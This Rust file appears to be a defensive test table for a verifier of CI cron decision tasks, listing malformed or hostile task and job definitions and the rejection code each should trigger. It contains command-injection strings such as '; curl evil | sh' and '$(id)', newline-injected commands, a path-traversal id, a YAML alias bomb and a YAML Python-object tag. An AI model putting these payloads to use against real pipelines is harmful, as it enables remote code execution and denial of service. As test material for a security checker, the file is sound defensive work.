//! Cron tasks that do not match a job of their tree.

use super::ways::{alias_bomb, answer, git_cron};
use crate::attacks::{Attack, T, V, attack};
use crate::change::{decision, json, page_answers, page_missing, set};
use crate::told::{job_lacks, job_says, jobs_are, jobs_say};
use crate::valid::cron;

/// The line of the job that selects its tasks.
const METHOD: &str = "target-tasks-method: nightly\n";
/// The same for a job that takes an input.
const INCLUDES_INPUT: &str = "target-tasks-method: nightly\n      include-cron-input: true\n";

pub(super) const ATTACKS: &[Attack] = &[
    attack(
        "cron task with an extra argument",
        &[T],
        "A cron job's decision task has an argument that selects release tasks, which its job does \
         not have.",
        cron,
        |c| job_says(c, "quoted_args", "--target-tasks-method=nightly --target-tasks-method=release"),
        "rebuild-cron-differs",
    ),
    attack(
        "cron task with a command after its arguments",
        &[T],
        "A cron job's arguments end in another command.",
        cron,
        |c| job_says(c, "quoted_args", "--target-tasks-method=nightly; curl evil | sh"),
        "rebuild-cron-differs",
    ),
    attack(
        "cron task with a command within its arguments",
        &[T],
        "A cron job's argument contains a shell command.",
        cron,
        |c| job_says(c, "quoted_args", "--target-tasks-method=$(id)"),
        "rebuild-cron-differs",
    ),
    attack(
        "cron task with an argument over two lines",
        &[T],
        "A cron job's arguments continue on a second line, with a command of their own.",
        cron,
        |c| job_says(c, "quoted_args", "--target-tasks-method=nightly\nid"),
        "rebuild-cron-differs",
    ),
    attack(
        "cron task without its argument",
        &[T],
        "A cron job on GitHub lacks the argument that selects its tasks.",
        git_cron,
        |c| job_says(c, "quoted_args", ""),
        "rebuild-cron-differs",
    ),
    attack(
        "cron task of another method",
        &[T],
        "A cron job on GitHub selects different tasks from its definition in the tree.",
        git_cron,
        |c| job_says(c, "quoted_args", "--target-tasks-method=release"),
        "rebuild-cron-differs",
    ),
    attack(
        "cron task with a quoted argument",
        &[T],
        "A cron job's argument is quoted, although it needs no quotes.",
        cron,
        |c| job_says(c, "quoted_args", "'--target-tasks-method=nightly'"),
        "rebuild-cron-differs",
    ),
    attack(
        "cron task of another symbol",
        &[T],
        "A cron job's decision task has another job's symbol.",
        cron,
        |c| job_says(c, "job_symbol", "R"),
        "rebuild-cron-differs",
    ),
    attack(
        "cron task whose symbol is a command",
        &[T],
        "The symbol of a cron job on GitHub is a shell command.",
        git_cron,
        |c| job_says(c, "job_symbol", "$(id)"),
        "rebuild-cron-differs",
    ),
    attack(
        "cron task of an unknown job",
        &[T],
        "A cron job's decision task has the name and scopes of a job that the tree does not define.",
        cron,
        |c| job_says(c, "job_name", "release"),
        "rebuild-cron-job-unknown",
    ),
    attack(
        "cron task of an unknown job on GitHub",
        &[T],
        "A cron job's decision task on GitHub has the scopes of a job that the tree does not define.",
        git_cron,
        |c| job_says(c, "job_name", "release"),
        "rebuild-cron-job-unknown",
    ),
    attack(
        "cron task whose job is a command",
        &[T],
        "The name of a cron job contains a shell command.",
        cron,
        |c| job_says(c, "job_name", "nightly$(id)"),
        "rebuild-cron-job-unknown",
    ),
    attack(
        "cron task whose job is a pattern",
        &[T],
        "The name of a cron job is a pattern, and its scopes are those of all jobs.",
        git_cron,
        |c| job_says(c, "job_name", "*"),
        "rebuild-cron-job-unknown",
    ),
    attack(
        "cron task of a job that fires an action",
        &[T],
        "A cron job's decision task has the name of a job that creates no decision task.",
        cron,
        |c| job_says(c, "job_name", "bump"),
        "rebuild-cron-job-unknown",
    ),
    attack(
        "cron job removed from the tree",
        &[T],
        "The tree has no such job at the revision of a cron job's decision task.",
        cron,
        |c| jobs_say(c, "name: nightly", "name: weekly"),
        "rebuild-cron-job-unknown",
    ),
    attack(
        "tree without cron jobs",
        &[T],
        "The tree on GitHub has no cron jobs.",
        git_cron,
        |c| jobs_are(c, "jobs: []\n"),
        "rebuild-cron-job-unknown",
    ),
    attack(
        "cron job with another method in the tree",
        &[T],
        "The tree's cron job selects different tasks from its decision task.",
        cron,
        |c| jobs_say(c, METHOD, "target-tasks-method: beta\n"),
        "rebuild-cron-differs",
    ),
    attack(
        "cron job with an extra argument in the tree",
        &[T],
        "The tree's cron job has an argument that reuses tasks of the push, and its decision task \
         does not.",
        git_cron,
        |c| jobs_say(c, METHOD, "target-tasks-method: nightly\n      include-push-tasks: true\n"),
        "rebuild-cron-differs",
    ),
    attack(
        "cron job twice in the tree",
        &[T],
        "The tree has two jobs with the same name, and the decision task matches the first, which \
         is overridden.",
        cron,
        |c| {
            let second = "  - {name: nightly, job: {type: decision-task, treeherder-symbol: N, target-tasks-method: b}}\n";
            jobs_say(c, "  - name: bump\n", &format!("{second}  - name: bump\n"))
        },
        "rebuild-cron-differs",
    ),
    attack(
        "input for a cron job that takes none",
        &[T],
        "A cron job's decision task has an input, and its job takes no input.",
        cron,
        |c| job_says(c, "input", json("{\"level\":\"3\"}")?),
        "rebuild-cron-differs",
    ),
    attack(
        "input for a cron job on GitHub that takes none",
        &[T],
        "A cron job's decision task on GitHub has an input, and its job takes no input.",
        git_cron,
        |c| job_says(c, "input", json("{\"a\":[]}")?),
        "rebuild-cron-differs",
    ),
    attack(
        "input of a cron job with a command",
        &[T],
        "The input of a cron job contains a shell command.",
        cron,
        |c| {
            jobs_say(c, METHOD, INCLUDES_INPUT)?;
            job_says(c, "input", json("{\"version\":\"$(id)\"}")?)
        },
        "rebuild-value-unconfirmed",
    ),
    attack(
        "input of a cron job with a quote",
        &[T],
        "The input of a cron job on GitHub has a nested value with a quote.",
        git_cron,
        |c| {
            jobs_say(c, METHOD, INCLUDES_INPUT)?;
            job_says(c, "input", json("{\"a\":[{\"b\":[\"x\",\"y'z\"]}]}")?)
        },
        "rebuild-value-unconfirmed",
    ),
    attack(
        "input of a cron job with an option",
        &[T],
        "The input of a cron job has two words, and the second is an option.",
        cron,
        |c| {
            jobs_say(c, METHOD, INCLUDES_INPUT)?;
            job_says(c, "input", json("{\"version\":\"1 --level=3\"}")?)
        },
        "rebuild-value-unconfirmed",
    ),
    attack(
        "input of a cron job whose key is a command",
        &[T],
        "The input of a cron job on GitHub has a key that is a command.",
        git_cron,
        |c| {
            jobs_say(c, METHOD, INCLUDES_INPUT)?;
            job_says(c, "input", json("{\"`id`\":1}")?)
        },
        "rebuild-value-unconfirmed",
    ),
    attack(
        "input of a cron job that is a list",
        &[T],
        "The input of a cron job is a list, and not an object.",
        cron,
        |c| {
            jobs_say(c, METHOD, INCLUDES_INPUT)?;
            job_says(c, "input", json("[\"x\"]")?)
        },
        "rebuild-value-unconfirmed",
    ),
    attack(
        "cron task whose creator is a command",
        &[T],
        "The id of the task that created a cron job's decision task is a shell command.",
        cron,
        |c| job_says(c, "task_id", "$(id)"),
        "rebuild-value-unconfirmed",
    ),
    attack(
        "cron task without a creator",
        &[T],
        "A cron job's decision task does not name the task that created it.",
        git_cron,
        |c| job_says(c, "task_id", "<cron task id>"),
        "rebuild-value-unconfirmed",
    ),
    attack(
        "cron task whose creator has a long id",
        &[T],
        "The id of the task that created a cron job's decision task is too long.",
        cron,
        |c| job_says(c, "task_id", "b7yVvZ2nTVu2jLrpQmWcYg/../x"),
        "rebuild-value-unconfirmed",
    ),
    attack(
        "cron task with an unknown member",
        &[T],
        "A cron job's decision task has a member of its job's context that does not exist.",
        cron,
        |c| job_says(c, "user", "$(id)"),
        "rebuild-value-unconfirmed",
    ),
    attack(
        "cron task with an unknown member on GitHub",
        &[T],
        "A cron job's decision task on GitHub has a member that no job has.",
        git_cron,
        |c| job_says(c, "task_name", "nightly"),
        "rebuild-value-unconfirmed",
    ),
    attack(
        "cron task without its symbol",
        &[T],
        "A cron job's decision task on GitHub lacks the symbol of its job.",
        git_cron,
        |c| job_lacks(c, "job_symbol"),
        "rebuild-value-unconfirmed",
    ),
    attack(
        "cron task whose job is a list",
        &[T],
        "The job's context in a cron job's decision task is a list.",
        cron,
        |c| decision(c, &["extra", "cron"], "[]"),
        "rebuild-environment",
    ),
    attack(
        "cron jobs that are not YAML",
        &[V],
        "The tree's cron jobs end within a list.",
        cron,
        |c| jobs_are(c, "jobs: [{name: nightly"),
        "rebuild-cron-malformed",
    ),
    attack(
        "cron jobs without a list",
        &[V],
        "The tree's cron jobs are not in a list.",
        git_cron,
        |c| jobs_are(c, "jobs: {nightly: {type: decision-task}}\n"),
        "rebuild-cron-malformed",
    ),
    attack(
        "cron jobs of nested aliases",
        &[V],
        "Cron jobs of a few lines expand to a hundred billion items.",
        cron,
        |c| jobs_are(c, &alias_bomb("jobs")),
        "rebuild-cron-malformed",
    ),
    attack(
        "cron jobs with a Python tag",
        &[V],
        "The tree's cron jobs use a Python tag that calls a function.",
        git_cron,
        |c| jobs_say(c, "jobs:\n", "x: !!python/object/apply:os.getcwd []\njobs:\n"),
        "rebuild-cron-malformed",
    ),
    attack(
        "cron job whose symbol is a number",
        &[V],
        "The symbol of a cron job is a number in the tree.",
        cron,
        |c| jobs_say(c, "treeherder-symbol: N\n", "treeherder-symbol: 1\n"),
        "rebuild-cron-malformed",
    ),
    attack(
        "cron job without a symbol",
        &[V],
        "A cron job has no symbol in the tree.",
        git_cron,
        |c| jobs_say(c, "      treeherder-symbol: N\n", ""),
        "rebuild-cron-malformed",
    ),
    attack(
        "cron jobs of another file",
        &[V],
        "GitHub answers with a different file from the cron jobs.",
        git_cron,
        |c| answer(c, "contents/.cron.yml", |file| set(file, &["path"], "testing/.cron.yml")),
        "rebuild-answer-about-another",
    ),
    attack(
        "cron jobs of another revision",
        &[V],
        "GitHub answers with the cron jobs at the main branch.",
        git_cron,
        |c| {
            answer(c, "contents/.cron.yml", |file| {
                let url = file.get("url")?.as_str()?.split_once("?ref=")?.0.to_owned();
                set(file, &["url"], format!("{url}?ref=main"))
            })
        },
        "rebuild-answer-about-another",
    ),
    attack(
        "cron jobs that are not base64",
        &[V],
        "The contents of the cron jobs are not in base64.",
        git_cron,
        |c| answer(c, "contents/.cron.yml", |file| set(file, &["content"], "*")),
        "rebuild-answer-malformed",
    ),
    attack(
        "unavailable cron jobs",
        &[V],
        "The tree's host does not answer the request for the cron jobs.",
        cron,
        |c| page_answers(c, ".cron.yml", 503, ""),
        "availability-unreachable",
    ),
    attack(
        "argument that is a command, in a tree without jobs",
        &[T],
        "A cron job's argument contains a shell command, and its tree has no cron jobs.",
        cron,
        |c| {
            page_missing(c, ".cron.yml")?;
            job_says(c, "quoted_args", "--target-tasks-method=$(id)")
        },
        "rebuild-value-unconfirmed",
    ),
    attack(
        "argument of another kind, in a tree without jobs",
        &[T],
        "A cron job's argument names the sources to build, and its tree has no cron jobs.",
        cron,
        |c| {
            page_missing(c, ".cron.yml")?;
            job_says(
                c,
                "quoted_args",
                "--target-tasks-method=nightly --head-repository=https://hg.mozilla.org/try",
            )
        },
        "rebuild-value-unconfirmed",
    ),
    attack(
        "argument with a line break, in a tree without jobs",
        &[T],
        "A cron job's arguments continue on a second line, and its tree has no cron jobs.",
        git_cron,
        |c| {
            page_missing(c, ".cron.yml")?;
            job_says(c, "quoted_args", "--include-push-tasks\n--rebuild-kind=x")
        },
        "rebuild-value-unconfirmed",
    ),
    attack(
        "input, in a tree without jobs",
        &[T],
        "A cron job's decision task has an input, and its tree has no cron jobs.",
        git_cron,
        |c| {
            page_missing(c, ".cron.yml")?;
            job_says(c, "input", json("{\"a\":\"b\"}")?)
        },
        "rebuild-value-unconfirmed",
    ),
    attack(
        "name of two words, in a tree without jobs",
        &[T],
        "The name of a cron job is two words, and its tree has no cron jobs.",
        cron,
        |c| {
            page_missing(c, ".cron.yml")?;
            job_says(c, "job_name", "nightly --level=3")
        },
        "rebuild-value-unconfirmed",
    ),
    attack(
        "symbol with a quote, in a tree without jobs",
        &[T],
        "The symbol of a cron job has a quote, and its tree has no cron jobs.",
        git_cron,
        |c| {
            page_missing(c, ".cron.yml")?;
            job_says(c, "job_symbol", "N'")
        },
        "rebuild-value-unconfirmed",
    ),
];
